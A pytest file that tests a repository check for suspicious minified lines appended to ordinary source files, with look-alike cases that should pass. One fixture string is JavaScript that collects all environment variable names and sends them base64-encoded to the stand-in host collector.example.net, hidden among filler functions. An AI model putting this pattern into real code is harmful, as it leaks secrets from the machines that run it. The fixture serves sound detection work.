"""minified-code: (path, file text, should_flag) with real look-alikes."""

from __future__ import annotations

import pytest

from tests.repo.checks.helpers import findings

_NORMAL = "".join(f"function step{i}(x) {{\n  return x + {i};\n}}\n" for i in range(12))
_MINIFIED = (
    "!function(){var e=require('https'),t=process.env,n=Object.keys(t).join(';');"
    + "".join(f"function a{i}(r){{if(r){{return r+{i}}};var q=r*2;return q}};" for i in range(30))
    + "e.get('https://collector.example.net/?d='+Buffer.from(n).toString('base64'))}();"
)
_TABLE = "const TABLE = [" + ", ".join(str(i * 7919 % 65536) for i in range(200)) + "];"
_MESSAGE = 'const HELP = "' + "Run the tool with --verbose to see every step it takes. " * 12 + '";'
_BUNDLE = "\n".join(_MINIFIED for _ in range(5))

CASES = [
    ("index.js", _NORMAL + _MINIFIED + "\n", True),
    ("lib/util.py", "import os\n" * 12 + "exec('x');" * 80 + "\n", True),
    # Legitimate: a *.min.js file, a bundle in dist/, a file that is dense all through,
    # a long data table and a long message in a normal file.
    ("vendor.min.js", _NORMAL + _MINIFIED + "\n", False),
    ("dist/index.js", _NORMAL + _MINIFIED + "\n", False),
    ("lib/generated.js", _BUNDLE + "\n", False),
    ("src/table.js", _NORMAL + _TABLE + "\n", False),
    ("src/help.js", _NORMAL + _MESSAGE + "\n", False),
]


@pytest.mark.parametrize(("path", "text", "should_flag"), CASES)
def test_minified_lines(path: str, text: str, should_flag: bool) -> None:
    found = findings("minified-code", path, text)
    assert bool(found) is should_flag
    if should_flag:
        assert found[0].line == text.count("\n")  # the appended last line


def test_only_added_long_lines_count() -> None:
    text = _NORMAL + _MINIFIED + "\n"
    assert findings("minified-code", "index.js", text, added={1, 2}) == []
